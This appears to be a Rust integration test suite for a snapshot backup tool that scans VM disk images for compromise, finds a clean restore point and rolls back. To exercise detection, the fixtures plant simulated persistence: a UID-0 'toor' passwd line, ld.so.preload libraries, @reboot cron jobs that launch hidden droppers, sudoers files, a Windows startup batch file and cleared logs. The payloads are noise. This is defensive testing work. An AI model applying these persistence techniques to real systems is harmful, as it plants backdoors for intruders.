    let mut elf = b"\x7fELF\x02\x01\x01".to_vec();
    elf.extend_from_slice(&noise(30_000, 5));
    put("/tmp/.cache-x", &elf);
    debugfs_w(&img, "sif /tmp/.cache-x mode 0100755");
    replace_guest_file(&img, "/var/log/syslog", b"");
    env.run(&[
        "backup",
        img.to_str().unwrap(),
        "--name",
        "vm",
        "--time",
        "2026-01-02T00:00:00Z",
    ]);

    let (code, v) = scan(&env, "vm@latest", &[]);
    assert_eq!(code, Some(3), "{v:#}");
    let found = kinds(&v);
    for (kind, path) in [
        ("systemd", "/etc/systemd/system/dbus-helper.service"),
        ("ld_preload", "/etc/ld.so.preload"),
        ("sudoers", "/etc/sudoers.d/zz-maint"),
        ("new_account", "/etc/passwd"),
        ("uid0_account", "/etc/passwd"),
        ("password_set", "/etc/shadow"),
        ("shell_profile", "/home/alice/.bashrc"),
        ("temp_executable", "/tmp/.cache-x"),
        ("log_cleared", "/var/log/syslog"),
    ] {
        assert!(
            found.contains(&(kind.to_string(), path.to_string())),
            "{kind} {path} not reported: {v:#}"
        );
    }
    let details: Vec<String> = v["persistence"]
        .as_array()
        .unwrap()
        .iter()
        .map(|p| p["detail"].as_str().unwrap().to_string())
        .collect();
    let has = |s: &str| details.iter().any(|d| d.contains(s));
    assert!(has("toor") && has("maint"), "{details:?}");
    assert!(has("libhide.so"), "{details:?}");
    assert!(has("203.0.113.9"), "{details:?}");
    assert!(
        !has("alias ll"),
        "only the added line is quoted: {details:?}"
    );

    // Insight saw an ordinary day (nothing encrypted): the scan's finding
    // is what moves the clean point back to day 1, in the timeline too,
    // and the walk back pins that point.
    let t = env.json_code(&["timeline", "vm"], 3);
    let day1 = t["snapshots"][0]["id"].as_str().unwrap().to_string();
    assert_eq!(t["snapshots"][1]["verdict"], "clean", "{t:#}");
    assert_eq!(t["snapshots"][1]["scan"]["verdict"], "compromised", "{t:#}");
    assert_eq!(t["last_clean"], day1.as_str(), "{t:#}");
    let why = t["clean_point"]["reason"].as_str().unwrap();
    assert!(why.contains("verification found vm@"), "{why}");
    let w = find_clean(&env, "vm");
    assert_eq!(
        (&w["clean"], &w["pinned"]),
        (&json!(day1), &json!(true)),
        "{w:#}"
    );
    let snaps = env.json(&["snapshots", "vm"]);
    assert_eq!(snaps[0]["pinned"], true, "{snaps:#}");

    // The rollback takes the account files from before the intruder: no
    // second root login goes back into production.
    let out_dir = env.path("back");
    let rb = env.json(&["rollback", "vm", "--to-dir", out_dir.to_str().unwrap()]);
    assert_eq!(
        std::fs::read(out_dir.join("etc/passwd")).unwrap(),
        std::fs::read(root.join("etc/passwd")).unwrap()
    );
    assert!(
        !std::fs::read_to_string(out_dir.join("etc/shadow"))
            .unwrap()
            .contains("$6$"),
        "the password set by the intruder is gone"
    );
    let action = |path: &str| {
        rb["files"]
            .as_array()
            .unwrap()
            .iter()
            .find(|f| f["path"] == path)
            .map(|f| f["action"].as_str().unwrap().to_string())
    };
    assert_eq!(action("/etc/passwd").as_deref(), Some("restored"), "{rb:#}");
    assert_eq!(action("/etc/shadow").as_deref(), Some("restored"), "{rb:#}");

    // Day 3: the host is cleaned up. Until a scan says so, the timeline
    // still offers day 1 and exits 3 (the compromise stands); once the
    // scan finds day 3 clean, day 3 is the clean point.
    for gone in [
        "/etc/systemd/system/dbus-helper.service",
        "/etc/ld.so.preload",
        "/etc/sudoers.d/zz-maint",
        "/tmp/.cache-x",
    ] {
        debugfs_w(&img, &format!("rm {gone}"));
    }
    for back in [
        "/etc/passwd",
        "/etc/shadow",
        "/home/alice/.bashrc",
        "/var/log/syslog",
    ] {
        let local = out_dir.join(back.trim_start_matches('/'));
        replace_guest_file(&img, back, &std::fs::read(&local).unwrap());
    }
    let day3 = env.backup(&img, "vm", "2026-01-03T00:00:00Z")["id"]
        .as_str()
        .unwrap()
        .to_string();
    let t = env.json_code(&["timeline", "vm"], 3);
    assert_eq!(t["last_clean"], day1.as_str(), "{t:#}");
    let (code, v) = scan(&env, "vm@latest", &[]);
    assert_eq!(code, Some(0), "{v:#}");
    let t = env.json_code(&["timeline", "vm"], 0);
    assert_eq!(t["last_clean"], day3.as_str(), "{t:#}");
}

/// A host already carrying a second root login at its first backup: the
/// rollback has no earlier passwd to take, and keeps it for review rather
/// than leave a system without its account file.
#[test]
fn an_account_file_flagged_from_the_first_snapshot_is_kept_for_review() {
    let env = Env::new("30d", &[]);
    let root = env.path("root");
    linux_root(&root, "2.36-9+deb12u3");
    let mut passwd = std::fs::read(root.join("etc/passwd")).unwrap();
    passwd.extend_from_slice(b"toor:x:0:0::/root:/bin/bash\n");
    std::fs::write(root.join("etc/passwd"), &passwd).unwrap();
    let img = env.path("disk.img");
    gpt_ext4_image(&img, &root, 48);
    env.backup(&img, "vm", "2026-01-01T00:00:00Z");
    let (code, v) = scan(&env, "vm@latest", &[]);
    assert_eq!(code, Some(3), "{v:#}");
    assert!(
        kinds(&v).contains(&("uid0_account".to_string(), "/etc/passwd".to_string())),
        "{v:#}"
    );
    let out_dir = env.path("back");
    // Kept for review: done, but exit 3 (a script has to branch).
    let rb = env.json_code(
        &["rollback", "vm", "--to-dir", out_dir.to_str().unwrap()],
        3,
    );
    assert_eq!(std::fs::read(out_dir.join("etc/passwd")).unwrap(), passwd);
    let f = rb["files"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["path"] == "/etc/passwd")
        .unwrap();
    assert_eq!(
        (f["action"].as_str(), f["review"].as_bool()),
        (Some("kept"), Some(true)),
        "{rb:#}"
    );
}

/// An infection already there at the first backup stays found in every
/// later snapshot, whether or not that first one was scanned: what a
/// baseline never found clean holds is no excuse.
#[test]
fn an_infection_from_the_first_snapshot_on_is_found_in_every_later_one() {
    let env = Env::new("0s", &[]);
    let root = env.path("root");
    linux_root(&root, "2.36-9+deb12u3");
    let mut passwd = std::fs::read(root.join("etc/passwd")).unwrap();
    passwd.extend_from_slice(b"toor:x:0:0::/root:/bin/bash\n");
    std::fs::write(root.join("etc/passwd"), &passwd).unwrap();
    std::fs::write(root.join("etc/ld.so.preload"), "/usr/lib/libkw.so\n").unwrap();
    let img = env.path("disk.img");
    gpt_ext4_image(&img, &root, 48);
    for day in 1..=3u64 {
        if day > 1 {
            ordinary_day(&img, day);
        }
        env.backup(&img, "vm", &format!("2026-01-0{day}T00:00:00Z"));
    }
    // The newest alone, nothing scanned before (its baseline, the oldest,
    // never was)...
    let (code, v) = scan(&env, "vm@latest", &[]);
    assert_eq!(code, Some(3), "{v:#}");
    let want = |v: &Value| {
        let k = kinds(v);
        k.contains(&("uid0_account".into(), "/etc/passwd".into()))
            && k.contains(&("ld_preload".into(), "/etc/ld.so.preload".into()))
    };
    assert!(want(&v), "{v:#}");
    // ...and the whole history, each against the one before.
    let out = env.run(&["scan", "vm", "--json"]);
    let all: Value = serde_json::from_slice(&out.stdout).unwrap();
    // (The first compromised; after it, found again but there in the
    // baseline too: a warning, no pass.)
    for (k, r) in all.as_array().unwrap().iter().enumerate() {
        let want_verdict = if k == 0 { "compromised" } else { "warning" };
        assert_eq!(r["verdict"], want_verdict, "{r:#}");
        assert!(want(r), "{r:#}");
    }
    let walk = find_clean(&env, "vm");
    assert!(walk["clean"].is_null(), "{walk:#}");
}

/// The program a new cron job starts is left out of a rollback with the
/// job, though no rule knows its bytes (the system would start it again).
#[test]
fn a_rollback_leaves_out_the_program_a_flagged_job_starts() {
    let env = Env::new("0s", &[]);
    let root = env.path("root");
    linux_root(&root, "2.36-9+deb12u3");
    let img = env.path("disk.img");
    gpt_ext4_image(&img, &root, 48);
    debugfs_w(&img, "symlink /bin usr/bin");
    for day in 1..=3u64 {
        if day > 1 {
            ordinary_day(&img, day);
        }
        // A dropper planted a day before the job that starts it: no rule
        // knows it, and that day looks like any other.
        if day == 2 {
            write_guest_file(&img, "/home/alice/.helper", &noise(5000, 78));
        }
        if day == 3 {
            write_guest_file(&img, "/usr/local/bin/.upd", &noise(6000, 77));
            write_guest_file(
                &img,
                "/home/alice/.local.sh",
                b"#!/bin/sh\n/usr/local/bin/.upd\n",
            );
            // Two jobs: a program, and a script given to the shell.
            write_guest_file(
                &img,
                "/etc/cron.d/updater",
                b"*/5 * * * * root /usr/local/bin/.upd --quiet\n@reboot root /bin/sh /home/alice/.local.sh\n0 1 * * * root /bin/sh /usr/local/bin/backup.sh\n@hourly root /home/alice/.helper\n",
            );
            // A library preloaded into every program, and a timer
            // enabled through a link.
            debugfs_w(&img, "mkdir /usr/lib");
            write_guest_file(&img, "/usr/lib/libsysupd.so", &noise(7000, 79));
            write_guest_file(&img, "/etc/ld.so.preload", b"/usr/lib/libsysupd.so\n");
            write_guest_file(
                &img,
                "/etc/systemd/system/upd.timer",
                b"[Unit]\nDescription=updates\n[Timer]\nOnBootSec=1min\n[Install]\nWantedBy=timers.target\n",
            );
            debugfs_w(&img, "mkdir /etc/systemd/system/timers.target.wants");
            debugfs_w(
                &img,
                "symlink /etc/systemd/system/timers.target.wants/upd.timer /etc/systemd/system/upd.timer",
            );
        }
        env.backup(&img, "vm", &format!("2026-01-0{day}T00:00:00Z"));
    }
    let (code, v) = scan(&env, "vm", &[]);
    assert_eq!(code, Some(3), "{v:#}");
    let out_dir = env.path("back");
    // Files kept for review: exit 3.
    let rb = env.json_code(
        &["rollback", "vm", "--to-dir", out_dir.to_str().unwrap()],
        3,
    );
    let action = |p: &str| {
        rb["files"]
            .as_array()
            .unwrap()
            .iter()
            .find(|f| f["path"] == p)
            .map(|f| {
                let review = f["review"].as_bool().unwrap_or(false);
                format!("{} review={review}", f["action"].as_str().unwrap())
            })
    };
    assert_eq!(
        action("/etc/cron.d/updater").as_deref(),
        Some("dropped review=false"),
        "{rb:#}"
    );
    assert_eq!(
        action("/usr/local/bin/.upd").as_deref(),
        Some("dropped review=false"),
        "{rb:#}"
    );
    assert_eq!(
        action("/home/alice/.local.sh").as_deref(),
        Some("dropped review=false"),
        "{rb:#}"
    );
    assert!(!out_dir.join("usr/local/bin/.upd").exists());
    assert!(!out_dir.join("home/alice/.local.sh").exists());
    for p in [
        "/etc/ld.so.preload",
        "/usr/lib/libsysupd.so",
        "/etc/systemd/system/timers.target.wants/upd.timer",
    ] {
        assert_eq!(
            action(p).as_deref(),
            Some("dropped review=false"),
            "{p}: {rb:#}"
        );
        assert!(
            std::fs::symlink_metadata(out_dir.join(&p[1..])).is_err(),
            "{p}"
        );
    }
    // A link nothing flagged is kept, and said.
    assert_eq!(
        action("/bin").as_deref(),
        Some("kept review=false"),
        "{rb:#}"
    );
    // What the job starts that was there the same before it is kept: a
    // script there since the first snapshot is the system's own; one that
    // came a day before the job, maybe a dropper planted first, is named
    // for review.
    for (p, review) in [
        ("/usr/local/bin/backup.sh", false),
        ("/home/alice/.helper", true),
    ] {
        let want = format!("kept review={review}");
        assert_eq!(action(p), Some(want), "{p}: {rb:#}");
        assert!(out_dir.join(&p[1..]).exists(), "{p}");
    }
    assert!(out_dir.join("home/alice/notes.txt").exists());
    assert!(out_dir.join("etc/crontab").exists());
}

fn ordinary_day(img: &Path, day: u64) {
    replace_guest_file(
        img,
        "/home/alice/notes.txt",
        &text(30_000 + day as usize * 100, day),
    );
    replace_guest_file(
        img,
        "/var/log/syslog",
        &text(20_000 + day as usize * 500, day + 50),
    );
}

fn find_clean(env: &Env, name: &str) -> Value {
    let out = env.run(&["recover", name, "--find-clean", "--json"]);
    serde_json::from_slice(&out.stdout).unwrap_or_else(|e| {
        panic!(
            "{e}: {}\n{}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        )
    })
}

/// Backs up `days` snapshots; from day `k` on, the guest carries a
/// planted infection (a dropper and a cron job that starts it).
fn history(env: &Env, days: u64, k: u64) -> Vec<String> {
    history_on(env, days, k, |img, root| gpt_ext4_image(img, root, 48))
}

/// [`history`] on a disk `make_disk(image, root tree)` builds, its root
/// filesystem an ext4 at 1 MiB (where `debugfs_w` writes).
fn history_on(env: &Env, days: u64, k: u64, make_disk: impl Fn(&Path, &Path)) -> Vec<String> {
    let root = env.path("root");
    linux_root(&root, "2.36-9+deb12u3");
    let img = env.path("disk.img");
    make_disk(&img, &root);
    let mut ids = vec![];
    for day in 0..days {
        if day > 0 {
            ordinary_day(&img, day);
        }
        if day == k {
            let dropper = env.path("dropper");
            let mut d = b"\x7fELF".to_vec();
            d.extend_from_slice(&noise(8000, 5));
            d.extend_from_slice(EICAR);
            std::fs::write(&dropper, d).unwrap();
            debugfs_w(
                &img,
                &format!("write {} /usr/bin/kworkerd", dropper.display()),
            );
            debugfs_w(&img, "sif /usr/bin/kworkerd mode 0100755");
            let cron = env.path("cron");
            std::fs::write(&cron, "@reboot root /usr/bin/kworkerd\n").unwrap();
            debugfs_w(
                &img,
                &format!("write {} /etc/cron.d/kworker", cron.display()),
            );
        }
        let v = env.backup(&img, "vm", &format!("2026-03-{:02}T02:00:00Z", day + 1));
        ids.push(v["id"].as_str().unwrap().to_string());
    }
    ids
}

#[test]
fn find_clean_returns_the_snapshot_just_before_a_planted_infection() {
    let env = Env::new("30d", &[]);
    let ids = history(&env, 6, 3);
    let v = find_clean(&env, "vm");
    assert_eq!(v["clean"], ids[2].as_str(), "{v:#}");
    // Newest first; the cheap persistence check already fails the
    // infected points (the new cron job), and the malware stage still
    // runs on them: what it finds (the dropper the job starts) is
    // stored, said and weighed.
    let tried: Vec<(&str, &str, &str)> = v["tried"]
        .as_array()
        .unwrap()
        .iter()
        .map(|t| {
            (
                t["id"].as_str().unwrap(),
                t["verdict"].as_str().unwrap(),
                t["stage"].as_str().unwrap(),
            )
        })
        .collect();
    assert_eq!(
        tried,
        vec![
            (ids[5].as_str(), "compromised", "persistence"),
            (ids[4].as_str(), "compromised", "persistence"),
            (ids[3].as_str(), "compromised", "persistence"),
            (ids[2].as_str(), "clean", "vulnerabilities"),
        ],
        "{v:#}"
    );
    let findings = v["tried"][2]["findings"].to_string();
    assert!(
        findings.contains("/usr/bin/kworkerd") && findings.contains("malware"),
        "{findings}"
    );
    // The timeline and a rollback know what the walk found, with no
    // `cairn scan` run: the rollback leaves the dropper and its job out.
    let t = env.json_code(&["timeline", "vm"], 3);
    assert_eq!(t["last_clean"], ids[2].as_str(), "{t:#}");
    for day in 3..6 {
        assert_eq!(
            t["snapshots"][day]["scan"]["verdict"], "compromised",
            "{t:#}"
        );
    }
    let out_dir = env.path("rolled-back");
    env.json(&["rollback", "vm", "--to-dir", out_dir.to_str().unwrap()]);
    assert!(out_dir.join("home/alice/notes.txt").exists());
    assert!(!out_dir.join("usr/bin/kworkerd").exists());
    assert!(!out_dir.join("etc/cron.d/kworker").exists());
    // --quiet drops the plan and the stages, not why points failed.
    let quiet = env.run(&["recover", "vm", "--find-clean", "-q"]);
    let said = String::from_utf8_lossy(&quiet.stdout);
    assert!(
        !said.contains("plan:") && !said.contains("persistence ..."),
        "{said}"
    );
    assert!(
        said.contains(&ids[3][..8])
            && said.contains("=> compromised (decided by persistence)")
            && said.contains("/etc/cron.d/kworker"),
        "{said}"
    );
    // The finding that decided comes first under the verdict.
    let decided = said
        .lines()
        .skip_while(|l| !l.contains("(decided by persistence)"))
        .nth(1)
        .unwrap_or_default();
    assert!(!decided.trim_start().starts_with("malware"), "{said}");
    assert!(
        said.contains(&format!("clean point: vm@{}", &ids[2][..8])),
        "{said}"
    );
    // (The second walk compared the infected points with the clean one
    // it now knows, not with the first snapshot: scanned again. A third
    // finds those results stored and says so.)
    let third = env.run(&["recover", "vm", "--find-clean", "-q"]);
    let said = String::from_utf8_lossy(&third.stdout);
    assert!(
        said.contains("=> compromised (by its stored scan)")
            && said.contains("/etc/cron.d/kworker"),
        "{said}"
    );
    // The clean point's result is stored: scan and timeline show it.
    let t = env.json_code(&["timeline", "vm"], 3);
    assert_eq!(t["snapshots"][2]["scan"]["verdict"], "clean", "{t:#}");
}

/// The root filesystem as partition 1 (an ext4 at 1 MiB) and a small
/// EFI system partition (FAT) after it, as installers lay out disks.
fn disk_with_efi(img: &Path, root: &Path) {
    let i = img.to_str().unwrap();
    sh("truncate", &["-s", "56M", i]);
    sh(
        "sgdisk",
        &[
            "-n",
            "1:2048:+46M",
            "-t",
            "1:8300",
            "-n",
            "2:0:0",
            "-t",
            "2:ef00",
            i,
        ],
    );
    ext4_at(img, root, 1 << 20, 46);
    let efi = img.with_extension("efi");
    let e = efi.to_str().unwrap();
    sh("mkfs.vfat", &["-C", e, "8192"]);
    let loader = img.with_extension("loader");
    std::fs::write(&loader, noise(20_000, 9)).unwrap();
    sh("mmd", &["-i", e, "::/EFI", "::/EFI/debian"]);
    sh(
        "mcopy",
        &[
            "-i",
            e,
            loader.to_str().unwrap(),
            "::/EFI/debian/grubx64.efi",
        ],
    );
    write_at(img, 47 << 20, &std::fs::read(&efi).unwrap());
}

/// A scan of one partition (here the EFI partition, with nothing in it
/// to find) says so, and its clean result neither clears the snapshot
/// the disk's scans found compromised nor becomes the baseline later
/// scans compare with.
#[test]
fn a_clean_scan_of_one_partition_does_not_clear_a_compromised_snapshot() {
    let env = Env::new("30d", &[]);
    let ids = history_on(&env, 5, 3, disk_with_efi);
    let v = find_clean(&env, "vm");
    assert_eq!(v["clean"], ids[2].as_str(), "{v:#}");
    let spec = format!("vm@{}", &ids[3][..8]);
    let out = env.run(&["scan", &spec, "--partition", "2"]);
    let said = String::from_utf8_lossy(&out.stdout);
    assert_eq!(out.status.code(), Some(3), "{said}");
    assert!(
        said.contains("partition 2 only: scans clean")
            && said.contains("still COMPROMISED: a scan of the disk's filesystem"),
        "{said}"
    );
    let t = env.json_code(&["timeline", "vm"], 3);
    assert_eq!(t["last_clean"], ids[2].as_str(), "{t:#}");
    assert_eq!(t["snapshots"][3]["scan"]["verdict"], "compromised", "{t:#}");
    assert_eq!(find_clean(&env, "vm")["clean"], ids[2].as_str());
    // The next scan of the disk still compares with the clean point: the
    // cron job is new to it.
    let (code, latest) = scan(&env, "vm@latest", &[]);
    assert_eq!(code, Some(3), "{latest:#}");
    assert_eq!(latest["baseline"], ids[2].as_str(), "{latest:#}");
    assert!(
        kinds(&latest)
            .iter()
            .any(|(_, p)| p == "/etc/cron.d/kworker"),
        "{latest:#}"
    );
    let out_dir = env.path("rolled-back");
    env.json(&["rollback", "vm", "--to-dir", out_dir.to_str().unwrap()]);
    assert!(!out_dir.join("usr/bin/kworkerd").exists());
    assert!(!out_dir.join("etc/cron.d/kworker").exists());
    // The list shows what the scans found over insight's clean days.
    let listed = env.json(&["snapshots", "vm"]);
    let scan_verdicts: Vec<&str> = listed
        .as_array()
        .unwrap()
        .iter()
        .map(|s| s["scan_verdict"].as_str().unwrap_or("-"))
        .collect();
    assert_eq!(
        &scan_verdicts[2..],
        &["clean", "compromised", "compromised"],
        "{listed:#}"
    );
    assert!(env.ok(&["snapshots", "vm"]).contains("compromised (scan)"));
    // Unpinning warns of the clean point the scans left, not of a
    // snapshot they found compromised.
    let unpin = |spec: &str| {
        env.ok(&["pin", spec]);
        let out = env.run(&["unpin", spec]);
        assert_eq!(out.status.code(), Some(0));
        String::from_utf8_lossy(&out.stderr).contains("is the clean point")
    };
    assert!(!unpin(&spec));
    assert!(unpin(&format!("vm@{}", &ids[2][..8])));
}

#[test]
fn over_a_long_history_the_walk_back_bisects() {
    let env = Env::new("30d", &[]);
    let ids = history(&env, 20, 4);
    let v = find_clean(&env, "vm");
    assert_eq!(v["clean"], ids[3].as_str(), "{v:#}");
    // Stepping back one by one would try the 16 infected points and the
    // clean one; doubling steps then bisecting tries 19, 18, 16, 12, 4, 0,
    // 2 and 3.
    let tried = v["tried"].as_array().unwrap().len();
    assert_eq!(tried, 8, "{v:#}");
}

/// An AlmaLinux-like root whose RPM database (rpmdb.sqlite) is made by
/// Debian's rpm tools: openssl-libs built from the openssl source package.
fn rpm_root(env: &Env, root: &Path, release: &str) {
    let top = env.path(&format!("rpmbuild-{release}"));
    rpmbuild(
        &top,
        &format!(
            "Name: openssl\nEpoch: 1\nVersion: 3.0.7\nRelease: {release}\nSummary: t\nLicense: ASL 2.0\nBuildArch: noarch\n%description\nt\n%package libs\nSummary: t\n%description libs\nt\n%files libs\n"
        ),
    );
    let db = root.join("var/lib/rpm");
    std::fs::create_dir_all(&db).unwrap();
    std::fs::create_dir_all(root.join("etc")).unwrap();
    std::fs::write(
        root.join("etc/os-release"),
        "NAME=\"AlmaLinux\"\nID=\"almalinux\"\nVERSION_ID=\"9.2\"\nPRETTY_NAME=\"AlmaLinux 9.2 (Turquoise Kodkod)\"\n",
    )
    .unwrap();
    sh("rpm", &["--dbpath", db.to_str().unwrap(), "--initdb"]);
    let rpm = top.join(format!(
        "RPMS/noarch/openssl-libs-3.0.7-{release}.noarch.rpm"
    ));
    sh(
        "rpm",
        &[
            "-i",
            "--justdb",
            "--nodeps",
            "--dbpath",
            db.to_str().unwrap(),
            rpm.to_str().unwrap(),
        ],
    );
}

/// Turns the rpmdb.sqlite of `root` into the Berkeley DB `Packages` file
/// of rpm before 4.16, written by Berkeley DB's own db_load (the same
/// header blobs, keyed by package number).
fn to_berkeley_db(root: &Path, page_size: u32) {
    let db = root.join("var/lib/rpm");
    let dump = db.join("dump.txt");
    sh(
        "python3",
        &[
            "-c",
            "import sqlite3, struct, sys\n\
             rows = sqlite3.connect(sys.argv[1]).execute('select hnum, blob from Packages').fetchall()\n\
             esc = lambda b: ''.join('\\\\%02x' % x for x in b)\n\
             open(sys.argv[2], 'w').write(''.join(esc(struct.pack('<I', k)) + '\\n' + esc(v) + '\\n' for k, v in rows))",
            db.join("rpmdb.sqlite").to_str().unwrap(),
            dump.to_str().unwrap(),
        ],
    );
    sh(
        "db5.3_load",
        &[
            "-T",
            "-t",
            "hash",
            "-c",
            &format!("db_pagesize={page_size}"),
            "-f",
            dump.to_str().unwrap(),
            db.join("Packages").to_str().unwrap(),
        ],
    );
    for f in std::fs::read_dir(&db).unwrap() {
        let p = f.unwrap().path();
        if p.file_name().unwrap() != "Packages" {
            std::fs::remove_file(p).unwrap();
        }
    }
}

#[test]
fn an_older_rpm_guest_is_read_from_its_berkeley_db() {
    let env = Env::new("30d", &[]);
    import_fixtures(&env);
    // 512-byte pages put the header in an overflow chain, 8 KiB pages
    // keep it on the hash page.
    for page_size in [512u32, 8192] {
        let name = format!("bdb{page_size}");
        let root = env.path(&format!("{name}-root"));
        rpm_root(&env, &root, "16.el9_2");
        to_berkeley_db(&root, page_size);
        let img = env.path(&format!("{name}.img"));
        gpt_ext4_image(&img, &root, 32);
        env.backup(&img, &name, "2026-01-01T00:00:00Z");
        let (_, v) = scan(&env, &format!("{name}@latest"), &[]);
        assert_eq!(v["packages"], 1, "{v:#}");
        assert_eq!(
            vuln_ids(&v),
            BTreeSet::from([("openssl-libs".to_string(), "ALSA-2023:5249".to_string())]),
            "{v:#}"
        );
    }
}

#[test]
fn an_rpm_guest_is_read_from_its_sqlite_database_and_matched_with_rpm_ordering() {
    let env = Env::new("30d", &[]);
    import_fixtures(&env);
    for (name, release, vulnerable) in [("old", "16.el9_2", true), ("new", "18.el9_2", false)] {
        let root = env.path(&format!("{name}-root"));
        rpm_root(&env, &root, release);
        let img = env.path(&format!("{name}.img"));
        gpt_ext4_image(&img, &root, 32);
        env.backup(&img, name, "2026-01-01T00:00:00Z");
        let (_, v) = scan(&env, &format!("{name}@latest"), &[]);
        assert_eq!(v["packages"], 1, "{v:#}");
        assert_eq!(v["os"], "AlmaLinux 9.2 (Turquoise Kodkod)");
        let found = vuln_ids(&v);
        if vulnerable {
            assert_eq!(
                found,
                BTreeSet::from([("openssl-libs".to_string(), "ALSA-2023:5249".to_string())]),
                "{v:#}"
            );
            let f = &v["vulnerabilities"][0];
            assert_eq!(f["installed"], "1:3.0.7-16.el9_2");
            assert_eq!(f["source"], "openssl");
            assert_eq!(f["fixed"], "1:3.0.7-18.el9_2");
            assert_eq!(f["severity"], "MODERATE");
        } else {
            assert!(found.is_empty(), "the fixed release is not reported: {v:#}");
        }
    }
}

#[test]
fn a_configured_clamd_scans_every_file_too() {
    // A real clamd with one signature of our own (no downloaded database).
    let env = Env::new("30d", &[]);
    let db = env.path("clamdb");
    std::fs::create_dir_all(&db).unwrap();
    let marker = b"CAIRN-CLAMAV-TEST-MARKER-7f3a";
    let hex: String = marker.iter().map(|b| format!("{b:02x}")).collect();
    std::fs::write(
        db.join("cairn.ndb"),
        format!("Cairn.Test.Marker:0:*:{hex}\n"),
    )
    .unwrap();
    let sock = env.path("clamd.sock");
    let conf = env.path("clamd.conf");
    std::fs::write(
        &conf,
        format!(
            "LocalSocket {}\nDatabaseDirectory {}\nForeground yes\nLogFile {}\nStreamMaxLength 1M\n",
            sock.display(),
            db.display(),
            env.path("clamd.log").display()
        ),
    )
    .unwrap();
    let mut clamd = std::process::Command::new("clamd")
        .args(["-c", conf.to_str().unwrap()])
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .spawn()
        .expect("clamd (Debian's clamav-daemon, installed by .ci/run)");
    for _ in 0..300 {
        if sock.exists() {
            break;
        }
        std::thread::sleep(std::time::Duration::from_millis(100));
    }

    let root = env.path("root");
    linux_root(&root, "2.36-9+deb12u3");
    std::fs::create_dir_all(root.join("srv/share")).unwrap();
    let mut payload = noise(3_000, 4);
    payload.extend_from_slice(marker);
    std::fs::write(root.join("srv/share/invoice.pdf"), &payload).unwrap();
    // Larger than this clamd takes in one stream (StreamMaxLength 1M):
    // its head is sent, not an error that would make the point a warning.
    std::fs::write(root.join("srv/share/backup.tar"), noise(3 << 20, 5)).unwrap();
    let img = env.path("disk.img");
    gpt_ext4_image(&img, &root, 32);
    env.backup(&img, "vm", "2026-01-01T00:00:00Z");

    // Without clamd, Cairn's rules see nothing in that file...
    let (code, v) = scan(&env, "vm@latest", &[]);
    assert_eq!(code, Some(0), "{v:#}");
    // ...with it, ClamAV's signature is a hit with its path.
    let out = env
        .cmd()
        .env("CAIRN_CLAMD", &sock)
        .env("CAIRN_CLAMD_MAX_BYTES", "1000000")
        .args(["scan", "vm@latest", "--json"])
        .output()
        .unwrap();
    let _ = clamd.kill();
    let _ = clamd.wait();
    let v: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(out.status.code(), Some(3), "{v:#}");
    assert_eq!(
        malware_paths(&v),
        BTreeSet::from([(
            "/srv/share/invoice.pdf".to_string(),
            "clamav:Cairn.Test.Marker.UNOFFICIAL".to_string()
        )]),
        "{v:#}"
    );
    // A clamd that is not there is an error, not a silent pass.
    let out = env
        .cmd()
        .env("CAIRN_CLAMD", env.path("nowhere.sock"))
        .args(["scan", "vm@latest"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&out.stderr).contains("clamd at"));
}

/// Copies a local file into an NTFS partition image (no mount).
fn ntfs_copy(part: &Path, local: &Path, guest: &str) {
    sh(
        "ntfscp",
        &["-q", part.to_str().unwrap(), local.to_str().unwrap(), guest],
    );
}

#[test]
fn a_new_startup_program_and_a_new_scheduled_task_on_windows_are_reported() {
    let env = Env::new("30d", &[]);
    // The folders need a mount once (ntfs-3g, FUSE); files go in with
    // ntfscp afterwards.
    let part = env.path("ntfs.img");
    ntfs_volume(&part, "24M");
    let mnt = env.path("mnt");
    std::fs::create_dir_all(&mnt).unwrap();
    sh("ntfs-3g", &[part.to_str().unwrap(), mnt.to_str().unwrap()]);
    let startup = mnt.join("ProgramData/Microsoft/Windows/Start Menu/Programs/StartUp");
    let tasks = mnt.join("Windows/System32/Tasks");
    let made = std::fs::create_dir_all(&startup)
        .and_then(|_| std::fs::create_dir_all(&tasks))
        .and_then(|_| std::fs::create_dir_all(mnt.join("Windows/System32/config")))
        .and_then(|_| std::fs::write(startup.join("desktop.ini"), "[.ShellClassInfo]\r\n"))
        .and_then(|_| std::fs::write(tasks.join("OneDrive Standalone Update Task"), "<Task/>"));
    sh("umount", &[mnt.to_str().unwrap()]);
    made.unwrap();
    let disk = env.path("win.img");
    sh("truncate", &["-s", "28M", disk.to_str().unwrap()]);
    sh(
        "sgdisk",
        &["-n", "1:2048:+24M", "-t", "1:0700", disk.to_str().unwrap()],
    );
    // The registry: hives made by hivex (libguestfs' registry library)
    // from an empty one, with an ordinary Run value and service.
    let software = env.path("SOFTWARE");
    let system = env.path("SYSTEM");
    for hive in [&software, &system] {
        sh(
            "python3",
            &[
                &in_package("tests/tools/empty_hive.py"),
                hive.to_str().unwrap(),
            ],
        );
    }
    hivexsh(
        &software,
        "add Microsoft\ncd Microsoft\nadd Windows\ncd Windows\nadd CurrentVersion\ncd CurrentVersion\nadd Run\ncd Run\n\
         setval 1\nOneDrive\nstring:C:\\Program Files\\Microsoft OneDrive\\OneDrive.exe /background\n",
    );
    hivexsh(
        &system,
        "add ControlSet001\ncd ControlSet001\nadd Services\ncd Services\nadd Dnscache\ncd Dnscache\n\
         setval 2\nImagePath\nexpandstring:%SystemRoot%\\system32\\svchost.exe -k NetworkService\nStart\ndword:0x2\n",
    );
    let place = || {
        ntfs_copy(&part, &software, "/Windows/System32/config/SOFTWARE");
        ntfs_copy(&part, &system, "/Windows/System32/config/SYSTEM");
        write_at(&disk, 1 << 20, &std::fs::read(&part).unwrap())
    };
    place();
    env.backup(&disk, "win", "2026-04-01T00:00:00Z");
    let (code, day1) = scan(&env, "win@latest", &[]);
    assert_eq!(
        (code, day1["verdict"].as_str()),
        (Some(0), Some("clean")),
        "{day1:#}"
    );

    let bat = env.path("updater.bat");
    std::fs::write(&bat, "@echo off\r\nstart /b C:\\Users\\Public\\svc.exe\r\n").unwrap();
    ntfs_copy(
        &part,
        &bat,
        "/ProgramData/Microsoft/Windows/Start Menu/Programs/StartUp/updater.bat",
    );
    // Shortcuts, written by pylnk3: one to a local program (its path in
